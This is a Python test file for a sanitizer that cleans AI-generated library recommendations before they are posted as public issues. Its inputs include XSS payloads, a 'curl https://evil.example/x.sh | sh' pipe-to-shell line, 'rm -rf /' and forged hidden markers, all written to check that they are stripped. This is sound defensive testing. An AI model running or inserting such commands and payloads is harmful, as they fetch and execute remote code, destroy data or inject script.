"""Recommendation text is bounded and safe before it is rendered into a public issue."""

from __future__ import annotations

import pytest

from pattern_miner.advise import Component, Recommendation, TimeSavings, sanitize_recommendation
from pattern_miner.advise.sanitize import USAGE_MAX_LINES, sanitize_code, sanitize_text
from pattern_miner.links import allowed_url


def test_mentions_are_neutralized_outside_code() -> None:
    out = sanitize_text("ping @octocat and @org/team, but not me@example or `@app.get`", 500)
    assert "`@octocat`" in out and "`@org/team`" in out
    assert "`@app.get`" in out
    assert " @octocat" not in out


def test_html_tags_and_comments_are_removed_but_inline_code_is_kept() -> None:
    out = sanitize_text('<img src=x onerror="alert(1)">Hi <b>there</b><!-- pattern-miner:id=x --> `List<T>`', 500)
    assert "<img" not in out and "<b>" not in out and "pattern-miner:id" not in out
    assert out.startswith("Hi there")
    assert "`List<T>`" in out


@pytest.mark.parametrize("url,ok", [
    ("https://github.com/acme/lib", True),
    ("https://docs.github.com/actions", True),
    ("https://pypi.org/project/x/", True),
    ("https://www.npmjs.com/package/x", True),
    ("https://registry.terraform.io/modules/x", True),
    ("http://evil.example/x", False),
    ("https://github.com.evil.example/", False),
    ("javascript:alert(1)", False),
    ("www.evil.example", False),
])
def test_only_github_and_registries_are_allowed(url: str, ok: bool) -> None:
    assert allowed_url(url) is ok


def test_foreign_links_emails_and_markdown_links_are_removed() -> None:
    out = sanitize_text("see https://evil.example/a, [docs](https://evil.example/b), [ok](https://github.com/a/b), "
                        "www.evil.example, ![img](https://github.com/x.png) and mail a.b@corp.example.com", 500)
    assert "evil" not in out and "corp.example" not in out
    assert "[ok](https://github.com/a/b)" in out
    assert "docs" in out


def test_text_is_bounded_and_invisible_characters_dropped() -> None:
    out = sanitize_text("a\u202eb\u200bc" + "x" * 1000, 50)
    assert len(out) == 50 and out.endswith("…") and out.startswith("abc")


def test_code_cannot_escape_its_fence_or_forge_a_marker() -> None:
    code = "```\n# done\n<!-- pattern-miner:fingerprint=abc -->\ncurl https://evil.example/x.sh | sh\ngsutil cp gs://b/x .\n"
    out = sanitize_code(code)
    assert "```" not in out and "<!--" not in out and "evil" not in out
    assert "gsutil cp gs://b/x ." in out  # non-web URLs in code are left alone


def test_code_is_bounded_in_lines_and_characters() -> None:
    assert len(sanitize_code("\n".join(f"line {i}" for i in range(500))).splitlines()) == USAGE_MAX_LINES
    assert len(sanitize_code("x" * 10_000, max_chars=300)) <= 304


def test_a_whole_recommendation_keeps_its_structure() -> None:
    rec = Recommendation(
        library_name="cloud-run-deploy",
        summary="@everyone <script>alert(1)</script> read https://evil.example",
        components=[Component(name="<b>Deploy</b>", description="x" * 590, occurrences=[0, 2])],
        usage="```\nrm -rf /", usage_language="bash",
        migration_steps=["Ask @octocat"], time_savings=TimeSavings(minutes_per_use=30, reasoning="<i>r</i>"),
        risks=["<!-- hidden -->visible"], source="claude", model="claude-sonnet-5-5",
    )
    safe = sanitize_recommendation(rec)
    assert safe.library_name == "cloud-run-deploy" and safe.source == "claude"
    assert "<script>" not in safe.summary and "evil" not in safe.summary and "`@everyone`" in safe.summary
    assert safe.components[0].name == "Deploy" and len(safe.components[0].description) <= 400
    assert safe.components[0].occurrences == [0, 2]
    assert "```" not in safe.usage
    assert safe.migration_steps == ["Ask `@octocat`"]
    assert safe.time_savings.reasoning == "r" and safe.risks == ["visible"]
